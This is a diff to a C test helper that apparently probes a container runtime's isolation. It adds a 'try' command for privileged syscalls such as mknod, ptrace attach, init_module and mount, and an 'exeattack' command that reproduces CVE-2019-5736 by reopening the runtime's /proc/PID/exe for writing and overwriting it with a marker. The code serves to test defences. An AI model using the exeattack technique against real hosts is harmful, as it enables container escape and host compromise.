@@ -15,7 +15,10 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mount.h>
 #include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/wait.h>
 #include <sys/resource.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -193,6 +196,12 @@ static const char *errno_name(int e)
     case EBADF: return "EBADF";
     case ENXIO: return "ENXIO";
     case ENODEV: return "ENODEV";
+    case ESRCH: return "ESRCH";
+    case ETXTBSY: return "ETXTBSY";
+    case ENOEXEC: return "ENOEXEC";
+    case EFAULT: return "EFAULT";
+    case ENOSYS: return "ENOSYS";
+    case EBUSY: return "EBUSY";
     default: return "OTHER";
     }
 }
@@ -739,6 +748,110 @@ static int cmd_keyring(int argc UNUSED, char **argv UNUSED)
     return finish();
 }
 
+/* try OP ARGS: one attempt a container should (or should not) be able to make, reported as
+ * {"op", "ok", "errno", "errname"}; exit status 0 either way. */
+static int report_try(const char *op, int r)
+{
+    int e = r < 0 ? errno : 0;
+    begin('{');
+    kv_str("op", op);
+    key("ok");
+    v_bool(r >= 0);
+    kv_int("errno", e);
+    kv_str("errname", errno_name(e));
+    end('}');
+    return finish();
+}
+
+static int try_open(const char *path, const char *mode)
+{
+    int flags = strcmp(mode, "w") == 0 ? O_WRONLY : strcmp(mode, "rw") == 0 ? O_RDWR : O_RDONLY;
+    int fd = open(path, flags | O_CLOEXEC);
+    if (fd >= 0)
+        close(fd);
+    return fd;
+}
+
+static int cmd_try(int argc, char **argv)
+{
+    if (argc < 3)
+        return fail("usage", "try OP ARGS");
+    const char *op = argv[2];
+    int r = -1;
+    if (strcmp(op, "mknod") == 0 && argc == 7)
+        r = mknod(argv[3], (argv[4][0] == 'b' ? S_IFBLK : S_IFCHR) | 0600,
+                  makedev(atoi(argv[5]), atoi(argv[6])));
+    else if (strcmp(op, "open") == 0 && argc == 5)
+        r = try_open(argv[3], argv[4]);
+    else if (strcmp(op, "chown") == 0 && argc == 6)
+        r = chown(argv[3], atoi(argv[4]), atoi(argv[5]));
+    else if (strcmp(op, "mkdir") == 0 && argc == 4)
+        r = mkdir(argv[3], 0755);
+    else if (strcmp(op, "init_module") == 0) {
+        static const char junk[64] = "not a kernel module";
+        r = (int)syscall(SYS_init_module, junk, sizeof junk, "");
+    } else if (strcmp(op, "ptrace") == 0 && argc == 4) {
+        pid_t pid = atoi(argv[3]);
+        r = (int)ptrace(PTRACE_ATTACH, pid, NULL, NULL);
+        if (r == 0) {
+            waitpid(pid, NULL, __WALL);
+            ptrace(PTRACE_DETACH, pid, NULL, NULL);
+        }
+    } else if (strcmp(op, "mount") == 0 && argc == 4)
+        r = mount("tmpfs", argv[3], "tmpfs", 0, NULL);
+    else if (strcmp(op, "sethostname") == 0 && argc == 4)
+        r = sethostname(argv[3], strlen(argv[3]));
+    else if (strcmp(op, "openat") == 0 && argc == 5) {
+        r = openat(atoi(argv[3]), argv[4], O_RDONLY | O_CLOEXEC);
+        if (r >= 0)
+            close(r);
+    } else
+        return fail("usage", "try mknod PATH b|c MAJ MIN | open PATH r|w|rw | chown PATH UID GID | mkdir PATH"
+                    " | init_module | ptrace PID | mount PATH | sethostname NAME | openat FD PATH");
+    return report_try(op, r);
+}
+
+/* exeattack PID SECONDS: CVE-2019-5736.  Hold /proc/PID/exe (the runtime's binary while PID is
+ * still the runtime) and, once PID has exec'd something else and the file is no longer busy,
+ * reopen it for writing and write to it.  "ready" on stderr once the fd is held. */
+static int cmd_exeattack(int argc, char **argv)
+{
+    char path[64];
+    if (argc != 4)
+        return fail("usage", "exeattack PID SECONDS");
+    snprintf(path, sizeof path, "/proc/%s/exe", argv[2]);
+    int fd = open(path, O_PATH | O_CLOEXEC);
+    if (fd < 0)
+        return fail("open", path);
+    fprintf(stderr, "ready\n");
+    fflush(stderr);
+    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+    int wfd = -1, e = 0;
+    long written = -1;
+    for (int i = 0; i < atoi(argv[3]) * 100; i++) {
+        wfd = open(path, O_WRONLY | O_CLOEXEC);
+        if (wfd >= 0 || errno != ETXTBSY)
+            break;
+        usleep(10000);
+    }
+    if (wfd < 0)
+        e = errno;
+    else {
+        written = write(wfd, "CAPSA-PWNED", 11);
+        if (written < 0)
+            e = errno;
+        close(wfd);
+    }
+    begin('{');
+    key("opened");
+    v_bool(wfd >= 0);
+    kv_int("written", written);
+    kv_int("errno", e);
+    kv_str("errname", errno_name(e));
+    end('}');
+    return finish();
+}
+
 static const struct {
     const char *name;
     int (*fn)(int argc, char **argv);
@@ -766,6 +879,8 @@ static const struct {
     {"cgroup", cmd_cgroup, "lines of /proc/self/cgroup"},
     {"args", cmd_args, "argv as received"},
     {"keyring", cmd_keyring, "serial of the session keyring"},
+    {"try", cmd_try, "OP ARGS: one privileged attempt (mknod, open, chown, init_module, ptrace, ...)"},
+    {"exeattack", cmd_exeattack, "PID SECONDS: try to overwrite PID's executable once it is not busy"},
 };
 
 static int usage(FILE *out)
